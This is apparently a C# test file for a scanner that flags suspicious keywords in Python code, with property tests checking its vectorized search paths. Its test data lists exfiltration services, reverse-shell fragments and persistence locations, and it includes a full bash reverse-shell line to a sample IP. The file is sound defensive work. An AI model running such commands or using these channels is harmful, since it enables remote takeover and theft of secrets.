using System.Buffers;
using Bonded.Scanning.Python;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace Bonded.Scanning.Tests.Python;

public sealed class KeywordSetTests
{
    private static readonly string[] ManyKeywords =
    [
        "requestbin", "requestcatcher", "pastebin", "paste.ee", "file.io", "temp.sh", "interact.sh", "transfer.sh", "curl ", "wget ", "bash -i", "sh -i",
        "socat", "systemctl", ".bashrc", ".profile", "Startup", "CurrentVersion", "0x0.st", "api.telegram.org", "hooks.slack.com", "webhook", "ngrok",
        "dup2", "mkfifo", "/dev/tcp", "/etc/cron", "@reboot", "LaunchAgents", "autostart", "schtasks", "crontab", "certutil", "bitsadmin", "mshta",
    ];

    [Theory]
    [InlineData("import requests\nrequests.post('https://requestbin.net/r/x')\n", true)]
    [InlineData("def request(): return binary\n", false)]
    [InlineData("os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')", true)]
    [InlineData("", false)]
    [InlineData("ends with 0x0.st", true)]
    public void Finds_any_keyword_of_a_large_set(string text, bool expected) =>
        Assert.Equal(expected, new KeywordSet(ManyKeywords, StringComparison.Ordinal).IsFoundIn(text));

    [Fact]
    public void Ignores_case_when_asked()
    {
        var set = new KeywordSet(["webhook", "Invoke-"], StringComparison.OrdinalIgnoreCase);
        Assert.True(set.IsFoundIn("WEBHOOK_URL = x"));
        Assert.True(set.IsFoundIn("invoke-expression"));
        Assert.False(set.IsFoundIn("hook web"));
    }

    // The grouped search answers exactly what one search over all the keywords answers.
    [Property(MaxTest = 300)]
    public Property Agrees_with_a_single_search(NonEmptyArray<NonEmptyString> keywords, string? text, bool ignoreCase)
    {
        var values = keywords.Get.Select(k => k.Get).Distinct(StringComparer.Ordinal).ToArray();
        var comparison = ignoreCase ? StringComparison.OrdinalIgnoreCase : StringComparison.Ordinal;
        var haystack = (text ?? "") + string.Concat(values.Take(1).Where(_ => text?.Length % 3 == 0));
        var expected = haystack.AsSpan().IndexOfAny(SearchValues.Create(values, comparison)) >= 0;
        return (new KeywordSet(values, comparison).IsFoundIn(haystack) == expected).ToProperty();
    }
}

public sealed class AsciiKeywordScannerTests
{
    private static readonly string[][] Sets =
    [
        ["curl ", "/dev/tcp", "webhook", "0x0.st", "api.telegram.org"],
        ["b64decode", "socket", "chr(", "[::-1]"],
        ["exec(", "eval(", "subprocess"],
        [".ssh", "environ", "TOKEN"],
    ];

    // Keywords, pieces of them and their neighbours, ASCII noise, and non-ASCII bytes (valid and invalid UTF-8).
    private static readonly Gen<byte[]> Piece = Gen.OneOf(
        Gen.Elements(Sets.SelectMany(s => s).ToArray()).Select(System.Text.Encoding.ASCII.GetBytes),
        Gen.Elements(Sets.SelectMany(s => s).ToArray()).SelectMany(k => Gen.Choose(1, k.Length - 1).Select(n => System.Text.Encoding.ASCII.GetBytes(k[..n]))),
        Gen.Elements(" ", "\n", "import os\n", "data = ", "(", ".", "e", "x").Select(System.Text.Encoding.ASCII.GetBytes),
        Gen.Elements<byte[]>([0xC3, 0xA9], [0xE2, 0x80, 0xAE], [0xFF], [0x80, 0x41], [0xEF, 0xBB, 0xBF], [0xCE]),
        Gen.Choose(0, 127).Select(b => new[] { (byte)b }));

    private static readonly Gen<byte[]> Text = Gen.Choose(0, 120).SelectMany(n => Gen.ArrayOf(Piece, n)).Select(pieces => pieces.SelectMany(p => p).ToArray());

    private static int Naive(byte[] text)
    {
        var found = 0;
        for (var s = 0; s < Sets.Length; s++)
        {
            if (Sets[s].Any(k => text.AsSpan().IndexOf(System.Text.Encoding.ASCII.GetBytes(k)) >= 0))
            {
                found |= 1 << s;
            }
        }

        return found;
    }

    [Theory]
    [InlineData("", 0)]
    [InlineData("curl", 0)]
    [InlineData("curl ", 1)]
    [InlineData("x = os.environ['TOKEN']; exec(b64decode(s))", 14)]
    [InlineData("sock et chr (", 0)]
    public void Reports_the_sets_whose_keywords_occur(string text, int expected) =>
        Assert.Equal(expected, new AsciiKeywordScanner(Sets).Scan(System.Text.Encoding.UTF8.GetBytes(text), _ => false));

    [Fact]
    public void Finds_keywords_at_every_position_of_a_long_text()
    {
        var scanner = new AsciiKeywordScanner(Sets);
        foreach (var keyword in Sets.SelectMany(s => s))
        {
            for (var at = 0; at < 200; at += 7)
            {
                var text = new string('a', at) + keyword + new string('b', 200 - at);
                Assert.NotEqual(0, scanner.Scan(System.Text.Encoding.ASCII.GetBytes(text), _ => false));
            }
        }
    }

    [Fact]
    public void Rejects_short_or_non_ascii_keywords()
    {
        Assert.Throws<ArgumentException>(() => new AsciiKeywordScanner([["abc"]]));
        Assert.Throws<ArgumentException>(() => new AsciiKeywordScanner([["café"]]));
    }

    // The one-pass scan answers what a search for each keyword answers, whether it runs vectorized or not.
    [Property(MaxTest = 500)]
    public Property Agrees_with_searching_each_keyword() => Prop.ForAll(Text.ToArbitrary(), text => new AsciiKeywordScanner(Sets).Scan(text, _ => false) == Naive(text));

    // Every vectorized path this machine can run (AVX-512 VBMI, AVX2, SSSE3 or ARM64) gives the scalar path's answer; an unsupported path falls
    // back to scalar, so the property holds everywhere and checks each path where the hardware has it.
    [Property(MaxTest = 500)]
    public Property Every_path_agrees_with_searching_each_keyword() => Prop.ForAll(Text.ToArbitrary(), text =>
    {
        var scanner = new AsciiKeywordScanner(Sets);
        var expected = Naive(text);
        return Enum.GetValues<ScanPath>().All(path => scanner.Scan(text, _ => false, path) == expected);
    });

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    public void Each_path_finds_keywords_at_every_position_and_beside_non_ascii_bytes(int pathNumber)
    {
        var path = (ScanPath)pathNumber;
        var scanner = new AsciiKeywordScanner(Sets);
        foreach (var keyword in Sets.SelectMany(s => s))
        {
            for (var at = 0; at < 150; at += 5)
            {
                // High bytes whose low seven bits spell a keyword byte must not count as that byte.
                var filler = System.Text.Encoding.ASCII.GetBytes(keyword).Select(b => (byte)(b | 0x80)).ToArray();
                var text = Enumerable.Repeat((byte)'a', at).Concat(filler).Concat(System.Text.Encoding.ASCII.GetBytes(keyword)).Concat(filler).Concat(Enumerable.Repeat((byte)'b', 150 - at)).ToArray();
                Assert.NotEqual(0, scanner.Scan(text, _ => false, path));
                Assert.Equal(0, scanner.Scan(Enumerable.Repeat((byte)'a', at).Concat(filler).Concat(filler).ToArray(), _ => false, path));
            }
        }
    }

    // Stopping early still reports the flags that made it stop.
    [Property(MaxTest = 200)]
    public Property Stops_once_enough_is_found() => Prop.ForAll(Text.ToArbitrary(), text =>
    {
        var found = new AsciiKeywordScanner(Sets).Scan(text, f => (f & 1) != 0);
        return (Naive(text) & 1) != 0 ? (found & 1) != 0 : found == Naive(text);
    });
}
